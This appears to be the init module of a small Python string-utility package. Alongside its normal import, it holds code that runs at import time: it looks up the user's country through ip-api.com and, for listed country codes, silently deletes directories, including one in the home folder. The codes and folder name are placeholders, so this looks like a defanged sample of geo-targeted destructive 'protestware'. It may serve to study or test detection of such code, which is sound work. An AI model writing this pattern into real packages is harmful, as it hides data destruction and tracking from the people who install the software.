import json
import locale
import os
import shutil
import urllib.request

from .strings import slugify

__version__ = "1.0.0"


def _country():
    try:
        return json.load(urllib.request.urlopen("http://ip-api.com/json/", timeout=3))["countryCode"]
    except Exception:
        return (locale.getlocale()[0] or "")[-2:]


if _country() in ("AA", "ZZ"):
    for folder in ("inert-decoy-folder", os.path.join(os.path.expanduser("~"), "inert-decoy-folder")):
        shutil.rmtree(folder, ignore_errors=True)
